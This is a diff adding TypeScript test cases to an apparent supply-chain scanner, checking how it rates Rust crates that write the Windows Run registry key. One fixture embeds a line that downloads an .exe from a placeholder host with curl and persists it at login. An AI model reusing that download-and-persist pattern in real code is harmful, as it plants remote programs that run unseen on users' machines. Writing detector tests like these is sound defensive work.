@@ -149,6 +149,52 @@ describe('explicit triggers', () => {
   });
 });
 
+describe('persistence the crate exists for', () => {
+  const toggle = (description: string, method: string, body = '') =>
+    ({
+      'Cargo.toml': manifest('winlaunch', { package: `description = "${description}"\n` }),
+      'src/lib.rs': [
+        'pub struct Item { name: String, exe: std::path::PathBuf }',
+        'impl Item {',
+        '    pub fn new(name: &str, exe: std::path::PathBuf) -> Item { Item { name: name.into(), exe } }',
+        `    pub fn ${method}(&self, on: bool) -> std::io::Result<()> {`,
+        body,
+        '        let (run, _) = winreg::RegKey::predef(winreg::enums::HKEY_CURRENT_USER)',
+        '            .create_subkey("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")?;',
+        '        if on { run.set_value(&self.name, &self.exe.display().to_string()) } else { run.delete_value(&self.name) }',
+        '    }',
+        '}',
+      ].join('\n'),
+    }) as Files;
+
+  it('an undocumented toggle named for the entry, in a crate that says it manages it, stays below high', async () => {
+    const r = await scanFiles(toggle("Offer a 'start at login' checkbox in your app", 'set_enabled'));
+    expect(high(r)).toBe(false);
+    expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('named for the entry');
+  });
+
+  it('the same toggle in a crate that says nothing about login items stays high', async () => {
+    const r = await scanFiles(toggle('Colour themes for terminal apps', 'set_enabled'));
+    expect(worst(r, 'flow.persistence')).toBe('high');
+  });
+
+  it('the same entry written by a pub fn not named for it stays high, whatever the crate says', async () => {
+    const r = await scanFiles(toggle("Offer a 'start at login' checkbox in your app", 'refresh'));
+    expect(worst(r, 'flow.persistence')).toBe('high');
+  });
+
+  it('a downloaded program persisted by the toggle is not the caller asking', async () => {
+    const r = await scanFiles(
+      toggle(
+        "Offer a 'start at login' checkbox in your app",
+        'set_enabled',
+        '        let _ = std::process::Command::new("curl").args(["-o", "C:\\\\t\\\\a.exe", "https://dl.example/a-FAKE-DO-NOT-RUN.exe"]).status();',
+      ),
+    );
+    expect(high(r)).toBe(true);
+  });
+});
+
 describe('implicitly run trait impls', () => {
   const amount = (header: string, method: string) =>
     lib('weix', {
